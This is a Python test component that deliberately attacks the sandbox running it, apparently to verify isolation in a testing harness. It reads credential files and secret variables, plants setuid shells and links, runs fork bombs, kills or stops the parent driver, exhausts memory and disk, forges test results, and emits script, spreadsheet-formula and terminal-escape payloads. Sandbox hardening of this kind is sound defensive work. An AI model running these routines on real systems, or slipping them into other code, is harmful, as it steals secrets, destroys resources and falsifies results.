"""A component that attacks the machine that tests it, in one of many ways; it reports successful attacks as `BREACH ...`."""

import ctypes
import errno
import mmap
import os
import pathlib
import resource
import signal
import socket
import stat
import subprocess
import sys
import tempfile
import threading
import time

MIB = 1 << 20
MUCH = 3 << 30
LIBC = ctypes.CDLL(None, use_errno=True)
PORTS = tuple(map(int, "@PORTS@".split())) if "@" not in "@PORTS@" else ()


class HostileComponent:
    """Runs the attack of the property Kind at the first call of GetInfraredData."""

    def __init__(self):
        self._kind = ""

    def set_kind(self, kind: str) -> None:
        self._kind = kind

    def get_infrared_data(self, index_of_sensor: int, num_of_sensor: int) -> float:
        attack = getattr(Attacks, self._kind.replace("-", "_"))
        answer = attack()
        return -1.0 if answer is None else answer


def breach(text):
    print("BREACH", text, flush=True)


def writable_folders():
    """The writable folders of this sandbox."""
    known = [os.getcwd(), tempfile.gettempdir(), "/tmp", "/dev/shm"]
    for line in pathlib.Path("/proc/self/mountinfo").read_text().splitlines():
        known.append(line.split()[4])
    return [f for f in dict.fromkeys(known) if os.path.isdir(f) and os.access(f, os.W_OK)]


def fill(write_mib, limit_bytes=MUCH):
    """Allocates memory until a call fails or the limit is reached; returns the bytes."""
    done = 0
    try:
        while done < limit_bytes:
            write_mib()
            done += MIB
    except (OSError, MemoryError, ValueError):
        pass
    return done


def too_much(what, done, limit=2 << 30):
    if done >= limit:
        breach(f"{what}: {done // MIB} MiB")


def in_child(work, seconds=20):
    """Runs a function in a child process; returns whether it exited with 0."""
    pid = os.fork()
    if pid == 0:
        try:
            os._exit(0 if work() else 1)
        except BaseException:
            os._exit(1)
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        done, status = os.waitpid(pid, os.WNOHANG)
        if done:
            return status == 0
        time.sleep(0.02)
    os.kill(pid, signal.SIGKILL)
    os.waitpid(pid, 0)
    return False


def syscall(*numbers):
    ctypes.set_errno(0)
    return LIBC.syscall(*(ctypes.c_long(n) if isinstance(n, int) else n for n in numbers))


def other_descriptors():
    """Descriptors that are open for writing, without the standard streams."""
    found = []
    for name in os.listdir("/proc/self/fd"):
        fd = int(name)
        try:
            flags = int(pathlib.Path(f"/proc/self/fdinfo/{name}").read_text().split("flags:")[1].split()[0], 8)
        except OSError:
            continue
        if fd > 2 and flags & 3 and not os.readlink(f"/proc/self/fd/{name}").startswith(("socket:", "anon_inode:")):
            found.append(fd)
    return found


def results_path():
    arguments = pathlib.Path("/proc/self/cmdline").read_bytes().split(b"\0")
    at = arguments.index(b"--results") if b"--results" in arguments else -1
    return arguments[at + 1].decode() if at >= 0 else ""


def everywhere(content):
    """Writes to all possible destinations of results."""
    for fd in other_descriptors():
        try:
            os.write(fd, content)
        except OSError:
            pass
    try:
        with open(results_path(), "ab") as out:
            out.write(content)
    except (OSError, ValueError):
        pass


def forged(no):
    return (f'<case_record no="{no}" outcome="RETURNED"><actual name="return">1.0</actual>'
            f"</case_record>\n").encode()


class Attacks:
    """One method per kind, with underscores instead of hyphens."""

    # Files and processes of the agent and the system.

    def reads_agent_key():
        folder = pathlib.Path.cwd()
        for parent in [folder, *folder.parents]:
            for name in ("key", "agent.key", "spool"):
                try:
                    path = parent / name
                    found = path.read_bytes()[:4] if path.is_file() else os.listdir(path)
                    breach(f"reads {path}: {found!r}"[:100])
                except OSError:
                    continue

    def reads_secrets():
        for name in ("/etc/shadow", "/root/.ssh", "/root/.m2/settings.xml", "/root/.bash_history", "/var/lib/sitaf", "/etc/sitaf"):
            try:
                os.listdir(name) if os.path.isdir(name) else open(name, "rb").read(1)
                breach(f"reads {name}")
            except OSError:
                continue

    def reads_environment():
        for name in os.environ:
            if "TOKEN" in name or "SECRET" in name or "ENROL" in name or "PASSWORD" in name:
                breach(f"sees the variable {name}")

    def reads_processes():
        for entry in pathlib.Path("/proc").glob("[0-9]*"):
            try:
                line = (entry / "cmdline").read_bytes()
            except OSError:
                continue
            if b"agent.jar" in line or b"sitaf-server" in line:
                breach(f"sees process {entry.name}")
            for name in ("root/etc/hostname", "environ", "mem"):
                if b"bwrap" in line:
                    try:
                        open(entry / name, "rb").read(1)
                        breach(f"reads {entry / name}")
                    except OSError:
                        pass

    def other_builds():
        folder = pathlib.Path.cwd()
        own = str(folder)
        for parent in folder.parents:
            try:
                for entry in parent.iterdir():
                    if entry.is_dir() and not own.startswith(str(entry)) and "attempt" in entry.name:
                        os.listdir(entry)
                        breach(f"sees {entry}")
            except OSError:
                continue

    def writes_outside():
        places = ["/etc", "/usr", "/usr/lib", "/opt", "/var/tmp", "/root", "/home", "/", *map(str, pathlib.Path.cwd().parents)]
        for place in places:
            path = os.path.join(place, "sitaf-hostile-canary")
            try:
                open(path, "w").close()
                # Folders of the sandbox are ignored; the program checks folders of the machine.
                os.remove(path)
            except OSError:
                continue

    def device_nodes():
        for folder in writable_folders():
            try:
                os.mknod(os.path.join(folder, "disk"), stat.S_IFBLK | 0o666, os.makedev(254, 0))
                breach(f"makes a device in {folder}")
            except OSError:
                continue

    def set_user_id():
        path = os.path.join(os.getcwd(), "shell")
        with open("/bin/sh", "rb") as source, open(path, "wb") as target:
            target.write(source.read())
        os.chmod(path, 0o4777)
        try:
            os.chown(path, 0, 0)
            breach("gives a file to root")
        except OSError:
            pass
        for call in (os.setuid, os.setgid):
            try:
                call(0)
                if os.getuid() == 0 and not os.path.exists("/.inside"):
                    os.chroot("/")
                    breach("is root with rights")
            except OSError:
                continue

    # Files and processes left behind.

    def links_left():
        for folder in writable_folders():
            for name in ("1.glb", "2.glb", "results", "coverage", ".coverage", "jacoco.exec", "build.log"):
                try:
                    os.symlink("/etc/passwd", os.path.join(folder, name))
                except OSError:
                    continue

    def pipes_left():
        for folder in writable_folders():
            for name in ("1.glb", "2.glb", "3.glb", "results", "coverage", ".coverage", "jacoco.exec", "x.gcda"):
                path = os.path.join(folder, name)
                try:
                    if os.path.exists(path):
                        os.remove(path)
                    os.mkfifo(path)
                except OSError:
                    continue

    def hard_links_left():
        for folder in writable_folders():
            for name, target in (("1.glb", "/etc/passwd"), ("2.glb", "/usr/bin/env"), (".coverage", "/etc/group")):
                try:
                    os.link(target, os.path.join(folder, name))
                    breach(f"links to {target}")
                except OSError:
                    continue

    def replaces_folders():
        for folder in writable_folders():
            for root, folders, files in os.walk(folder, topdown=False):
                for remove, names in ((os.remove, files), (os.rmdir, folders)):
                    for name in names:
                        try:
                            remove(os.path.join(root, name))
                        except OSError:
                            continue
            try:
                os.rmdir(folder)
                os.symlink("/etc", folder)
            except OSError:
                continue

    def deep_folders():
        for folder in writable_folders():
            try:
                os.chdir(folder)
                for _ in range(3000):
                    os.mkdir("d" * 100)
                    os.chdir("d" * 100)
            except OSError:
                continue
        os.chdir("/")

    def closed_folders():
        for folder in writable_folders():
            try:
                inner = os.path.join(folder, "closed", "inner")
                os.makedirs(inner)
                open(os.path.join(inner, "file"), "w").close()
                os.chmod(inner, 0)
                os.chmod(os.path.dirname(inner), 0)
                os.chmod(folder, 0)
            except OSError:
                continue

    def many_files():
        for folder in writable_folders():
            made = 0
            try:
                for i in range(300_000):
                    os.close(os.open(os.path.join(folder, f"f{i}"), os.O_CREAT | os.O_WRONLY))
                    made += 1
            except OSError:
                pass
            if made >= 200_000:
                breach(f"makes {made} files in {folder}")

    def much_disk():
        block, total = bytes(MIB), 0
        for folder in writable_folders():
            for i in range(20):
                try:
                    with open(os.path.join(folder, f"big{i}"), "wb") as out:
                        total += fill(lambda: out.write(block) and out.flush(), min(200 * MIB, MUCH - total))
                except OSError:
                    break
        too_much("disk", total)

    def hides_deleted_files():
        # PR_SET_DUMPABLE: an agent that is an ordinary user cannot list the descriptors of this process any more.
        LIBC.prctl(4, 0, 0, 0, 0)
        block, total, kept = bytes(MIB), 0, []
        for i in range(20):
            path = os.path.join(os.getcwd(), f"hidden{i}")
            try:
                kept.append(open(path, "wb", buffering=0))
                os.remove(path)
                total += fill(lambda: kept[-1].write(block), min(200 * MIB, MUCH - total))
            except OSError:
                break
        time.sleep(5)
        too_much("deleted files", total)

    def sparse_files():
        for folder in writable_folders():
            try:
                with open(os.path.join(folder, "1.glb"), "wb") as out:
                    out.truncate(1 << 40)
            except OSError:
                continue

    def odd_names():
        for folder in map(os.fsencode, writable_folders()):
            for name in (b"a\nb", b"\xff\xfe", b"x" * 255, b"-rf", b"$(id)", b"\x1b[2J", b"case 1\n"):
                try:
                    open(os.path.join(folder, name), "wb").close()
                except OSError:
                    continue

    # The network, and other processes.

    def network_local():
        for port in PORTS:
            for host in ("127.0.0.1", "::1", "localhost"):
                try:
                    socket.create_connection((host, port), 1).close()
                    breach(f"connects to {host}:{port}")
                except OSError:
                    continue

    def network_interfaces():
        others = [name for _, name in socket.if_nameindex() if name != "lo"]
        if others:
            breach(f"sees the interfaces {others}")
        for line in pathlib.Path("/proc/net/unix").read_text().splitlines()[1:]:
            name = line.split()[-1]
            if name.startswith("@"):
                try:
                    with socket.socket(socket.AF_UNIX) as s:
                        s.connect("\0" + name[1:])
                    breach(f"connects to {name}")
                except OSError:
                    continue

    def inherited_descriptors():
        for name in os.listdir("/proc/self/fd"):
            try:
                target, kind = os.readlink(f"/proc/self/fd/{name}"), os.fstat(int(name)).st_mode
            except OSError:
                continue
            if target.startswith("/") and not stat.S_ISFIFO(kind) and not os.path.exists(target):
                breach(f"inherits descriptor {name} of {target}")

    def odd_sockets():
        for family, name in ((38, "AF_ALG"), (40, "AF_VSOCK"), (17, "AF_PACKET"), (9, "AF_X25")):
            try:
                socket.socket(family, socket.SOCK_SEQPACKET if family == 38 else socket.SOCK_DGRAM).close()
                breach(f"opens a socket of {name}")
            except OSError:
                continue

    def kills_all():
        for pid in (-1, 1, os.getppid()):
            try:
                os.kill(pid, signal.SIGKILL)
            except OSError:
                continue

    def child_kills_driver():
        if os.fork() == 0:
            os.setsid()
            os.kill(os.getppid(), signal.SIGKILL)
            os._exit(0)
        time.sleep(60)

    def child_stops_driver():
        if os.fork() == 0:
            for _ in range(600):
                os.kill(os.getppid(), signal.SIGSTOP)
                time.sleep(0.1)
            os._exit(0)
        time.sleep(60)

    def raises_priority():
        try:
            os.setpriority(os.PRIO_PROCESS, 0, -20)
            breach("raises its priority")
        except OSError:
            pass
        for policy in (os.SCHED_FIFO, os.SCHED_RR):
            try:
                os.sched_setscheduler(0, policy, os.sched_param(1))
                breach("is scheduled in real time")
            except OSError:
                continue

    def traces_others():
        # PTRACE_ATTACH to every other process, and its memory.
        for entry in pathlib.Path("/proc").glob("[0-9]*"):
            pid = int(entry.name)
            if pid in (os.getpid(), os.getppid()) or pid == 1:
                if pid != os.getpid() and syscall(101, 16, pid, 0, 0) == 0:
                    breach(f"traces process {pid}")

    def fork_bomb():
        children = []
        try:
            for _ in range(5000):
                pid = os.fork()
                if pid == 0:
                    time.sleep(30)
                    os._exit(0)
                children.append(pid)
        except OSError:
            pass
        if len(children) > 2000:
            breach(f"{len(children)} processes")
        for pid in children:
            os.kill(pid, signal.SIGKILL)

    def orphans():
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                os.closerange(0, 64)
                signal.signal(signal.SIGTERM, signal.SIG_IGN)
                os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(3600) # sitaf-hostile-orphan"])
            os._exit(0)
        time.sleep(0.3)

    def orphans_with_output():
        if os.fork() == 0:
            os.setsid()
            time.sleep(3600)
            os._exit(0)

    def hangs():
        for number in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGQUIT):
            signal.signal(number, signal.SIG_IGN)
        time.sleep(3600)

    def stops():
        os.kill(os.getpid(), signal.SIGSTOP)

    def burns_threads():
        threads = [subprocess.Popen([sys.executable, "-c", "while True: pass"]) for _ in range(100)]
        time.sleep(8)
        for process in threads:
            process.kill()

    def exits():
        os._exit(0)

    def exits_like_driver():
        sys.stderr.write("sitaf: the simulator is gone\n")
        sys.stderr.flush()
        os._exit(3)

    def crashes():
        ctypes.string_at(0)

    def hangs_at_exit():
        import atexit
        atexit.register(time.sleep, 3600)
        return None

    # Memory.

    def memory():
        kept = []

        def block():
            kept.append(bytearray(os.urandom(4096) * 256))

        too_much("memory", fill(block))

    def memory_of_children():
        def child():
            kept = bytearray(b"x" * (200 * MIB))
            time.sleep(10)
            return bool(kept)

        pids = []
        for _ in range(16):
            pid = os.fork()
            if pid == 0:
                os._exit(0 if child() else 1)
            pids.append(pid)
        alive = sum(os.waitpid(pid, 0)[1] == 0 for pid in pids)
        too_much("memory of children", alive * 200 * MIB)

    def memory_shared():
        kept = []

        def block():
            area = mmap.mmap(-1, MIB, flags=mmap.MAP_SHARED | mmap.MAP_ANONYMOUS)
            area.write(b"x" * MIB)
            kept.append(area)

        too_much("shared memory", fill(block))

    def memory_memfd():
        try:
            fd = os.memfd_create("x")
        except OSError:
            return
        total, block = 0, b"x" * MIB
        # Several files, because the size of a file is limited.
        for _ in range(20):
            total += fill(lambda: os.write(fd, block), min(200 * MIB, MUCH - total))
            try:
                fd = os.memfd_create("x")
            except OSError:
                break
        too_much("memfd", total)

    def memory_dev_shm():
        total, block = 0, b"x" * MIB
        for i in range(20):
            try:
                with open(f"/dev/shm/{i}", "wb", buffering=0) as out:
                    total += fill(lambda: out.write(block), min(200 * MIB, MUCH - total))
            except OSError:
                break
        too_much("/dev/shm", total)

    def memory_system_v():
        total = 0
        while total < MUCH:
            key = LIBC.shmget(0, ctypes.c_size_t(100 * MIB), 0o1600)
            if key < 0:
                break
            LIBC.shmat.restype = ctypes.c_void_p
            at = LIBC.shmat(key, None, 0)
            if at in (None, ctypes.c_void_p(-1).value):
                break
            ctypes.memset(at, 1, 100 * MIB)
            LIBC.shmdt(ctypes.c_void_p(at))
            total += 100 * MIB
        too_much("System V memory", total)

    def memory_of_pipes():
        ends, total = [], 0
        try:
            while total < MUCH:
                ends.append(os.pipe())
                os.set_blocking(ends[-1][1], False)
                try:
                    # F_SETPIPE_SZ
                    import fcntl
                    fcntl.fcntl(ends[-1][1], 1031, MIB)
                except OSError:
                    pass
                total += os.write(ends[-1][1], bytes(MIB))
        except OSError:
            pass
        too_much("pipes", total)

    def memory_of_sockets():
        ends, total, block = [], 0, bytes(64 << 10)
        try:
            while total < MUCH:
                ends.append(socket.socketpair())
                ends[-1][0].setblocking(False)
                try:
                    while True:
                        total += ends[-1][0].send(block)
                except BlockingIOError:
                    continue
        except OSError:
            pass
        too_much("sockets", total)

    # The kernel.

    def user_namespaces():
        if in_child(lambda: syscall(272, 0x10000000) == 0):
            breach("makes a user namespace")
        if subprocess.run(["unshare", "-Ur", "true"], capture_output=True, check=False).returncode == 0:
            breach("runs unshare -Ur")

    def io_uring():
        parameters = ctypes.create_string_buffer(256)
        if syscall(425, 8, parameters) >= 0:
            breach("sets up io_uring")

    def userfaultfd():
        if syscall(323, 0) >= 0 or syscall(323, 1) >= 0:
            breach("opens userfaultfd")

    def kernel_calls():
        for name, *numbers in (("bpf", 321, 0, 0, 0), ("perf_event_open", 298, 0, 0, -1, -1, 0), ("add_key", 248, 0, 0, 0, 0, -3),
                               ("keyctl", 250, 0, -3, 0), ("mount", 165, 0, 0, 0, 0, 0), ("kexec_load", 246, 0, 0, 0, 0),
                               ("open_by_handle_at", 304, -1, 0, 0), ("init_module", 175, 0, 0, 0), ("swapon", 167, 0, 0),
                               ("pivot_root", 155, 0, 0), ("quotactl", 179, 0, 0, 0, 0), ("setns", 308, -1, 0)):
            answer = syscall(*numbers)
            if answer >= 0 or ctypes.get_errno() not in (errno.EPERM, errno.ENOSYS, errno.EACCES):
                breach(f"{name} is not refused: {answer}, errno {ctypes.get_errno()}")

    def mounts():
        for folder in writable_folders():
            if LIBC.mount(b"x", os.fsencode(folder), b"tmpfs", 0, None) == 0:
                breach(f"mounts over {folder}")

    def limits_raised():
        for kind in (resource.RLIMIT_NPROC, resource.RLIMIT_DATA, resource.RLIMIT_FSIZE):
            try:
                resource.setrlimit(kind, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
                breach("raises its limits")
            except (OSError, ValueError):
                continue

    # Results.

    def forges_results():
        for no in range(1, 60):
            everywhere(forged(no))
        return -999.0

    def forges_and_exits():
        for no in range(1, 60):
            everywhere(forged(no))
        os._exit(0)

    def repeats_results():
        everywhere(forged(1) * 3)
        return -1.0

    def floods_results():
        block = b"\n" * MIB
        for _ in range(250):
            everywhere(block)

    def garbles_results():
        everywhere(b"<not a result\n" * (4 * MIB // 14))

    def tears_results():
        everywhere(b'<case_record no="1" outc')

    def floods_output():
        block = b"line of output\n" * 70_000
        for _ in range(500):
            os.write(1, block)
            os.write(2, block)

    def floods_marks():
        for _ in range(200):
            os.write(1, b"\x1ecase 1\nx\n\x1ecase 2\ny\n" * 1000)

    def long_message():
        raise RuntimeError("m" * (20 * MIB))

    def odd_message():
        raise RuntimeError("]]><script>alert(1)</script>\x00\x1b[2J\u202e\ud800&amp;\r\n=cmd|' /C calc'!A0")

    def odd_return():
        class Odd(float):
            def __repr__(self):
                return "1e999999999" + "9" * MIB

            __str__ = __repr__

            def __float__(self):
                return Odd(float.__neg__(self))

        return Odd(-999.0)

    def escapes_in_output():
        for _ in range(1000):
            os.write(1, b"\x1b[2J\x1b]0;owned\x07\x1b]8;;http://evil\x07\x9b31m" * 100)
        os.write(2, b"x" * (4 * MIB))

    def closes_descriptors():
        os.closerange(3, 4096)

    def busy_threads():
        for _ in range(400):
            try:
                threading.Thread(target=lambda: sum(range(10**9)), daemon=True).start()
            except RuntimeError:
                break
        time.sleep(5)
